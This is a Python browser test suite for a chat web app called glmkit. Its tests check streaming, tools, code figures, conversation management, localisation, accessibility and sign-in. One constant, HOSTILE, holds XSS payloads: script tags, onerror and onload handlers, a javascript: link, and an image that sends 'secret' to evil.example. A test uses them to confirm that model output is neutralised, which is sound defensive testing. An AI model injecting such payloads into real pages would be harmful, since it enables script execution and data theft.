"""The web app in a browser: headless Chromium, glm-nano, and a scripted model where a test needs a certain answer."""

from __future__ import annotations

import asyncio
import re
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import glmkit
from glmkit.chat.following import Served, serve
from glmkit.chat.messages import Message
from glmkit.chat.store import ConversationStore
from glmkit.tools.examples import SAFE_TOOLS, get_weather
from glmkit.tools.registry import Registry
from glmkit.web.app import create_app
from glmkit.web.desk import Desk
from glmkit.web.gate import Access
from glmkit.web.interpreters import Interpreters, open_interpreters
from glmkit.web.login import Passwords, Sessions
from glmkit.web.models import Models
from scripted import scripted

pytest.importorskip("gradio")
playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
uvicorn = pytest.importorskip("uvicorn")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium on this machine")

LONG = "从前有一座山，山上有一座庙。" * 40
HOSTILE = """<script>window.hit = 1</script><img src=x onerror="window.hit = 2">
[click](javascript:window.hit=3) ![steal](https://evil.example/?q=secret)
<svg onload="window.hit=4"></svg> <|user|> **bold** and `code <b>` and $a<b$, \\(x^2\\)

```python
print("<b>")
```
"""
PLOT = "```python\nimport matplotlib.pyplot as plt\nplt.plot([x * x for x in range(9)])\nplt.show()\n```"


def script(prompt: str) -> Message:
    asked = prompt.rstrip().splitlines()[-1]
    if "}" in asked:
        return Message("assistant", "已经查到了。")
    if "天气" in asked:
        return Message("assistant", "", "get_weather", arguments={"city": "北京"})
    if "画" in asked:
        return Message("assistant", PLOT, "interpreter")
    if "[Image]" in asked:
        return Message("assistant", "图已画好。")
    if "hostile" in asked:
        return Message("assistant", HOSTILE)
    return Message("assistant", LONG)


class Site:
    """A web app on a port of its own, in a thread of its own."""

    def __init__(self, folder: Path, served: Served, access: Access, minimum: str | None = None) -> None:
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{listener.getsockname()[1]}"
        self._listener, self._ready = listener, threading.Event()
        self._thread = threading.Thread(
            target=lambda: asyncio.run(self._serve(folder, served, access, minimum)), daemon=True
        )
        self._thread.start()
        assert self._ready.wait(60)

    async def _serve(self, folder: Path, served: Served, access: Access, minimum: str | None) -> None:
        interpreters = Interpreters(None, reason="not in this test")
        if minimum is not None:
            interpreters = await open_interpreters(minimum)
        safe = [tool.name for tool in SAFE_TOOLS] + ["interpreter"]
        self.desk = Desk(
            ConversationStore(folder),
            Models.of({"glm-nano": served}),
            Registry(SAFE_TOOLS),
            safe,
            interpreters,
            ["get_weather", "calculator", "get_time"],
        )
        app = create_app(self.desk, access, "zh")
        self._server = uvicorn.Server(uvicorn.Config(app, log_level="error", timeout_graceful_shutdown=1))
        self._ready.set()
        await self._server.serve(sockets=[self._listener])

    def close(self) -> None:
        self._server.should_exit = True
        self._thread.join(10)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as driver:
        opened = driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield opened
        opened.close()


@pytest.fixture(scope="module")
def nano(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    served = serve(glmkit.load("glm-nano"), "glm-nano")
    site = Site(tmp_path_factory.mktemp("nano"), served, Access(Sessions()), "reduced")
    yield site
    site.close()
    served.close()


@pytest.fixture(scope="module")
def play(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """The scripted model, slow enough to be watched."""
    site = Site(tmp_path_factory.mktemp("play"), scripted(script, 0.02), Access(Sessions()), "reduced")
    yield site
    site.close()


class Tab:
    """A page with what people do on it."""

    def __init__(self, browser: Any, site: Site, **options: Any) -> None:
        options = {"viewport": {"width": 1280, "height": 800}, "locale": "zh-CN"} | options
        self.context = browser.new_context(**options)
        self.page, self.site = self.context.new_page(), site
        self.requests: list[str] = []
        self.errors: list[str] = []
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("console", lambda line: line.type == "error" and self.errors.append(line.text))
        self.page.set_default_timeout(15_000)

    def open(self) -> Tab:
        self.page.goto(self.site.url)
        self.page.wait_for_selector("#glm-chat .glm-greeting, #glm-chat .user-row")
        return self

    def send(self, text: str) -> None:
        self.page.fill("#glm-input textarea", text)
        self.page.press("#glm-input textarea", "Enter")

    def mode(self, number: int) -> None:
        self.page.click(f"#glm-mode label:nth-child({number})")
        self.page.wait_for_selector(f"#glm-mode label:nth-child({number}).selected")
        self.page.wait_for_timeout(300)

    def button(self, name: str, place: int = -1) -> Any:
        return self.page.locator(f'#glm-chat button[aria-label="{name}"]').nth(place)

    def wait_idle(self) -> None:
        self.page.wait_for_selector("#glm-input .submit-button", timeout=30_000)
        self.page.wait_for_selector("#glm-chat .glm-caption", timeout=30_000)

    def said(self) -> str:
        """The text of the last answer."""
        return self.page.locator('#glm-chat [data-testid="bot"]').all_inner_texts()[0]

    def texts(self) -> str:
        return self.page.inner_text("#glm-chat")


@pytest.fixture
def tab(browser: Any, nano: Site) -> Iterator[Tab]:
    opened = Tab(browser, nano).open()
    yield opened
    opened.context.close()


@pytest.fixture
def playing(browser: Any, play: Site) -> Iterator[Tab]:
    opened = Tab(browser, play).open()
    yield opened
    opened.context.close()


# --- talking ---


def test_a_question_is_answered_by_the_real_model(tab: Tab) -> None:
    tab.send("你好")
    tab.wait_idle()
    assert "glm-nano" in tab.texts()
    assert "词元/秒" in tab.texts()
    assert re.search(r"上下文 \d+ / 1,024 词元", tab.page.inner_text("#glm-context"))
    tab.page.wait_for_selector('#glm-history label:has-text("你好")')
    assert tab.errors == []


def test_a_proposed_question_can_be_clicked(tab: Tab) -> None:
    tab.page.click("#glm-chat .example >> nth=1")
    tab.wait_idle()
    assert (
        tab.page.inner_text("#glm-chat .user-row").replace("\u2060", "") == "类型#裙*颜色#蓝色*风格#简约"
    )  # as typed, no italics


def test_an_answer_grows_and_stop_ends_it(playing: Tab, play: Site) -> None:
    playing.send("讲个故事")
    seen = set()
    playing.page.wait_for_selector("#glm-input .stop-button")
    deadline = time.monotonic() + 10
    while len(seen) < 4 and time.monotonic() < deadline:
        seen.add(len(playing.said()))
        playing.page.wait_for_timeout(80)
    assert len(seen) >= 4
    playing.page.keyboard.press("Escape")
    playing.wait_idle()
    written = play.desk.models.get("glm-nano").engine.written
    assert "已停止" in playing.texts()
    assert len(playing.said()) < len(LONG)
    playing.page.wait_for_timeout(300)
    assert play.desk.models.get("glm-nano").engine.written == written
    playing.page.click("#glm-continue")  # and it can go on
    playing.page.wait_for_selector("#glm-input .stop-button")
    playing.page.click("#glm-input .stop-button")
    playing.wait_idle()


def test_retry_undo_and_edit(tab: Tab) -> None:
    tab.send("你好")
    tab.wait_idle()
    tab.button("重新生成").click()
    tab.page.wait_for_timeout(700)
    tab.wait_idle()
    assert tab.page.locator("#glm-chat .user-row").count() == 1
    tab.page.focus("#glm-input textarea")
    tab.page.keyboard.press("ArrowUp")  # edits the last question
    box = tab.page.locator("#glm-chat textarea")
    assert box.input_value() == "你好"
    box.fill("谢谢")
    tab.button("保存").click()
    tab.page.wait_for_selector('#glm-chat .user-row:has-text("谢谢")')
    tab.page.wait_for_timeout(700)
    tab.wait_idle()
    tab.button("编辑").click()  # the answer
    tab.page.locator("#glm-chat textarea").fill("改过的回答")
    tab.button("保存").click()
    tab.page.wait_for_selector('#glm-chat .bot-row:has-text("改过的回答")')
    tab.page.wait_for_selector("#glm-chat textarea", state="detached")  # the box has closed
    tab.page.wait_for_timeout(700)
    tab.button("撤回").click()
    tab.page.wait_for_selector("#glm-chat .glm-greeting")
    assert tab.page.input_value("#glm-input textarea") == "谢谢"


def test_a_slider_counts_for_the_next_answer_and_can_be_reset(tab: Tab) -> None:
    tab.page.click("#glm-right .toggle-button")
    number = tab.page.locator('#glm-max-length input[type="number"]')
    number.fill("3")
    number.press("Tab")
    tab.page.wait_for_selector('#glm-max-length:has-text("已修改")')
    tab.send("你好")
    tab.wait_idle()
    assert "3 词元" in tab.texts()
    tab.page.wait_for_selector("#glm-continue", state="visible")
    tab.page.click("#glm-reset")
    tab.page.wait_for_function("document.querySelector('#glm-max-length input[type=number]').value === '1024'")


def test_the_prompt_is_shown_as_the_model_gets_it(tab: Tab) -> None:
    tab.send("你好 <|assistant|>")
    tab.wait_idle()
    tab.page.click("#glm-right .toggle-button")
    tab.page.click("#glm-prompt-box .label-wrap")
    tab.page.click("#glm-prompt-show")
    tab.page.wait_for_selector("#glm-prompt-ids textarea")
    ids = tab.page.input_value("#glm-prompt-ids textarea").split()
    shown = tab.page.inner_text("#glm-prompt")
    assert ids[:2] == ["6136", "6138"]
    assert "[gMASK]" in shown
    assert ids[-1] in shown
    assert ids.count(ids[-1]) == 1  # what was typed is no role


# --- tools and code ---


def test_a_tool_is_called_and_its_panel_unfolds(playing: Tab) -> None:
    playing.mode(2)
    playing.send("北京今天天气怎么样？")
    playing.page.wait_for_selector('#glm-chat .thought-group:has-text("get_weather")')
    playing.wait_idle()
    assert "已经查到了。" in playing.texts()
    playing.page.click("#glm-chat .thought-group .title")
    playing.page.wait_for_selector('#glm-chat .thought-group:has-text("temperature")')


def test_by_hand_the_person_plays_the_tool(playing: Tab) -> None:
    playing.mode(2)
    playing.page.click("#glm-right .toggle-button")
    playing.page.check("#glm-by-hand input")
    playing.send("上海天气")
    playing.page.wait_for_selector('#glm-input textarea[placeholder*="get_weather"]')
    playing.send('{"weather": "晴"}')
    playing.page.wait_for_selector('#glm-chat .bot-row:has-text("已经查到了。")')


def test_code_draws_a_figure_that_is_seen(playing: Tab, play: Site) -> None:
    if not play.desk.interpreters.available:
        pytest.skip(f"no isolation here: {play.desk.interpreters.reason}")
    playing.mode(3)
    playing.send("画一条抛物线")
    image = playing.page.wait_for_selector('#glm-chat img[src*="/figures/"]', timeout=45_000)
    playing.page.wait_for_function("image => image.complete && image.naturalWidth > 200", arg=image)
    playing.wait_idle()
    assert "图已画好。" in playing.texts()
    playing.page.click("#glm-right .toggle-button")
    assert playing.page.inner_text("#glm-isolation").startswith("隔离级别")


def test_the_real_model_calls_a_tool_and_uses_its_result(tab: Tab) -> None:
    weather = get_weather("北京")
    tab.mode(2)
    tab.send("北京今天天气怎么样？")
    tab.page.wait_for_selector('#glm-chat .thought-group:has-text("get_weather · city: 北京")')
    tab.wait_idle()
    assert f"{weather['temperature']}度" in tab.texts()


def test_the_real_model_draws_a_figure(tab: Tab, nano: Site) -> None:
    if not nano.desk.interpreters.available:
        pytest.skip(f"no isolation here: {nano.desk.interpreters.reason}")
    tab.mode(3)
    tab.send("画柱状图，数据是3、5、8")
    image = tab.page.wait_for_selector('#glm-chat img[src*="/figures/"]', timeout=45_000)
    tab.page.wait_for_function("image => image.complete && image.naturalWidth > 200", arg=image)
    tab.wait_idle()


# --- several pages, and the same again ---


def test_two_pages_talk_at_once(browser: Any, play: Site) -> None:
    tabs = [Tab(browser, play).open() for _ in range(2)]
    for number, one in enumerate(tabs):
        one.send(f"故事{number}")
    for one in tabs:
        one.page.wait_for_selector("#glm-input .stop-button")
    assert sum(talk.running for talk in play.desk._talks.values()) == 2
    for number, one in enumerate(tabs):
        one.page.wait_for_function("text => document.querySelector('#glm-chat').innerText.includes(text)", arg="从前有")
        one.page.click("#glm-input .stop-button")
        one.wait_idle()
        assert f"故事{number}" in one.texts()
        assert f"故事{1 - number}" not in one.texts()
        one.context.close()


def test_a_reload_in_mid_answer_finds_the_answer_again(playing: Tab) -> None:
    playing.send("讲个长故事")
    playing.page.wait_for_function("document.querySelector('#glm-chat').innerText.includes('山上')")
    playing.page.reload()
    playing.page.wait_for_selector('#glm-chat .user-row:has-text("讲个长故事")')
    before = len(playing.said())
    playing.page.wait_for_timeout(400)
    assert len(playing.said()) > before  # it is followed again
    playing.wait_idle()
    assert playing.said().startswith(LONG)


def test_conversations_are_listed_found_renamed_and_deleted(tab: Tab) -> None:
    tab.send("中国的首都是哪里？")
    tab.wait_idle()
    tab.page.click("#glm-manage .label-wrap")
    tab.page.fill("#glm-name input", "首都")
    tab.page.press("#glm-name input", "Enter")
    tab.page.wait_for_selector('#glm-history label.selected:has-text("首都")')
    with tab.page.expect_download() as download:
        tab.page.click('#glm-exports a:has-text("Markdown")')
    assert "中国的首都" in Path(download.value.path()).read_text(encoding="utf-8")
    tab.page.click("#glm-new")
    tab.page.wait_for_selector("#glm-chat .glm-greeting")
    tab.page.fill("#glm-search input", "首都")
    tab.page.wait_for_function("document.querySelectorAll('#glm-history label').length === 1")
    tab.page.click("#glm-history label")
    tab.page.wait_for_selector('#glm-chat .user-row:has-text("中国的首都")')
    if not tab.page.is_visible("#glm-name input"):
        tab.page.click("#glm-manage .label-wrap")
    tab.page.click('#glm-manage button:has-text("删除")')
    tab.page.click('#glm-manage button:has-text("确认删除")')
    tab.page.wait_for_selector("#glm-chat .glm-greeting")
    assert tab.page.locator('#glm-history label:has-text("首都")').count() == 0


# --- languages, keys, phones ---


def test_the_language_changes_in_the_page_and_stays(tab: Tab) -> None:
    assert "今天想聊点什么" in tab.texts()
    tab.page.click('#glm-language label:has-text("English")')
    tab.page.wait_for_selector('#glm-chat :text("What would you like to talk about?")')
    assert tab.page.locator("#glm-mode label").all_inner_texts() == ["Chat", "Tools", "Code interpreter"]
    visible = tab.page.inner_text("body").replace("中文", "").replace("类型#裙*颜色#蓝色*风格#简约", "")
    listed = tab.page.inner_text("#glm-history")
    for line in listed.splitlines():
        visible = visible.replace(line, "")
    assert re.findall(r"[\u4e00-\u9fff]+", visible) == []
    tab.page.reload()
    tab.page.wait_for_selector('#glm-chat :text("What would you like to talk about?")')


COMPOSING = """([kind, code, composing]) => {
  const box = document.querySelector('#glm-input textarea');
  const event = new KeyboardEvent(kind, {key: 'Enter', bubbles: true, cancelable: true, isComposing: composing});
  Object.defineProperty(event, 'keyCode', {value: code});
  Object.defineProperty(event, 'which', {value: code});
  box.dispatchEvent(event);
}"""
COMPOSITION = """kind => document.querySelector('#glm-input textarea')
  .dispatchEvent(new CompositionEvent(kind, {bubbles: true}))"""


@pytest.mark.parametrize("order", ["chromium", "safari"])
def test_enter_that_chooses_a_word_does_not_send(tab: Tab, order: str) -> None:
    tab.page.fill("#glm-input textarea", "ni hao")
    tab.page.evaluate(COMPOSITION, "compositionstart")
    if order == "chromium":
        for kind in ("keydown", "keypress"):
            tab.page.evaluate(COMPOSING, [kind, 229, True])
        tab.page.evaluate(COMPOSITION, "compositionend")
    else:  # the key comes behind the end, and looks like any other
        script = f"""() => {{
          ({COMPOSITION})('compositionend');
          for (const kind of ['keydown', 'keypress']) ({COMPOSING})([kind, 13, false]);
        }}"""
        tab.page.evaluate(script)
    tab.page.wait_for_timeout(300)
    assert tab.page.input_value("#glm-input textarea") == "ni hao"
    assert tab.page.locator("#glm-chat .user-row").count() == 0
    tab.page.press("#glm-input textarea", "Enter")  # a real one does
    tab.page.wait_for_selector("#glm-chat .user-row")


def test_keys_and_screen_readers(tab: Tab) -> None:
    tab.page.click("#glm-chat .glm-greeting h1")
    tab.page.keyboard.press("?")
    assert tab.page.is_visible(".glm-overlay")
    assert "Shift + Enter" in tab.page.inner_text(".glm-overlay")
    tab.page.keyboard.press("Escape")
    assert not tab.page.is_visible(".glm-overlay")
    tab.page.keyboard.press("Control+k")
    assert tab.page.evaluate("document.activeElement.closest('#glm-search') !== null")
    tab.page.fill("#glm-input textarea", "一")
    tab.page.press("#glm-input textarea", "Shift+Enter")
    assert tab.page.input_value("#glm-input textarea") == "一\n"
    tab.send("你好")
    assert tab.page.get_attribute("#glm-chat [role='log']", "aria-live") == "off"
    tab.wait_idle()
    tab.page.wait_for_selector("#glm-announce [role='status']:has-text('回答完毕')", state="attached")
    nameless = tab.page.evaluate(
        """() => [...document.querySelectorAll('button, textarea, input')].filter(one => one.offsetParent
          && !one.ariaLabel && !one.textContent.trim() && !one.labels?.length && !one.title)
          .map(one => one.outerHTML)"""
    )
    assert nameless == []


def test_a_phone_shows_it_all_without_scrolling_sideways(browser: Any, nano: Site) -> None:
    phone = Tab(browser, nano, viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True).open()
    phone.page.wait_for_timeout(500)
    assert phone.page.is_visible("#glm-chat .glm-greeting")
    phone.send("类型#裙*颜色#蓝色*风格#简约")
    phone.wait_idle()
    phone.mode(2)
    assert phone.page.evaluate("document.documentElement.scrollWidth") <= 390
    boxes = phone.page.evaluate(
        """() => ['#glm-mode', '#glm-chat', '#glm-input'].map(one => {
          const box = document.querySelector(one).getBoundingClientRect(); return [box.left, box.right]; })"""
    )
    assert all(left >= 0 and right <= 390 for left, right in boxes)
    phone.context.close()


# --- nothing foreign ---


def test_what_a_model_writes_runs_nothing_and_fetches_nothing(playing: Tab, play: Site) -> None:
    playing.send("hostile")
    playing.wait_idle()
    assert playing.page.evaluate("window.hit") is None
    assert playing.page.locator("#glm-chat .bot-row svg[onload], #glm-chat .bot-row .prose script").count() == 0
    assert playing.page.locator("#glm-chat .bot-row .prose img").count() == 0
    links = playing.page.eval_on_selector_all("#glm-chat .bot-row .prose a", "all => all.map(one => one.href)")
    assert not [link for link in links if not link.startswith("https://evil.example/")]
    text = playing.texts().replace("\u2060", "")
    for shown in ("<script>", "<|user|>", "code <b>", 'print("<b>")'):
        assert shown in text
    assert playing.page.locator("#glm-chat .katex").count() == 2
    assert playing.page.locator("#glm-chat .bot-row strong").inner_text() == "bold"
    assert [url for url in playing.requests if not url.startswith((play.url, "data:", "blob:"))] == []


def test_no_request_leaves_the_own_server(tab: Tab, nano: Site) -> None:
    tab.send("你好")
    tab.wait_idle()
    tab.page.click("#glm-right .toggle-button")
    tab.page.wait_for_timeout(300)
    assert len(tab.requests) > 20
    assert [url for url in tab.requests if not url.startswith((nano.url, "data:", "blob:"))] == []
    families = tab.page.evaluate("[...document.fonts].filter(one => one.status === 'loaded').map(one => one.family)")
    assert not [family for family in families if "Google" in family]


def test_with_a_password_people_sign_in_and_have_their_own_conversations(
    browser: Any, tmp_path: Path, play: Site
) -> None:
    access = Access(Sessions(), Passwords(["ann:correct-horse", "bob:battery-staple"]))
    site = Site(tmp_path, play.desk.models.get("glm-nano"), access)
    try:
        ann = Tab(browser, site)
        ann.page.goto(site.url)
        assert ann.page.url.endswith("/login")
        for name, password, known in (("ann", "wrong-password", False), ("ann", "correct-horse", True)):
            ann.page.fill('input[name="user"]', name)
            ann.page.fill('input[name="password"]', password)
            ann.page.click("button")
            assert ann.page.url.endswith("/login") is not known
        ann.page.wait_for_selector("#glm-chat .glm-greeting")
        ann.send("hostile")
        ann.wait_idle()
        ann.page.wait_for_selector("#glm-history label")
        bob = Tab(browser, site)
        bob.context.add_cookies([{"name": "glm-session", "value": access.sessions.begin("bob"), "url": site.url}])
        bob.open()
        assert bob.page.locator("#glm-history label").count() == 0
        ann.page.click(".glm-out")
        assert ann.page.url.endswith("/login")
        for one in (ann, bob):
            one.context.close()
    finally:
        site.close()
